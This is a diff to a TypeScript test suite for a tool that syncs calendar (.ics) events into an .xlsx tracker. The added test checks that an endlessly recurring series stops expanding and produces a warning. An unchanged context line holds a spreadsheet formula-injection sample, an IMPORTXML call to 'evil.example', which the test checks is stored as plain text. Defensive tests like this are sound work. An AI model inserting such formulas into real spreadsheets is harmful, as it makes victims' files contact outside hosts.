@@ -126,3 +126,12 @@ describe('syncTracker: .ics into an .xlsx tracker', () => {
     expect((await readInterviews(input.out))[0]!['Title']).toBe('=IMPORTXML("https://evil.example","//a") interview');
   });
 });
+
+describe('syncTracker warnings', () => {
+  it('passes on a series cut at the step limit', async () => {
+    const { input, writeCalendar } = setup();
+    writeCalendar(screen, ['UID:storm', 'SUMMARY:Ping', 'DTSTART:20260101T000000Z', 'RRULE:FREQ=MINUTELY']);
+    const summary = await syncTracker(input);
+    expect([summary.added, summary.warnings]).toEqual([1, [`${input.sources[0]}: the series "storm" has too many occurrences; expansion stopped.`]]);
+  });
+});
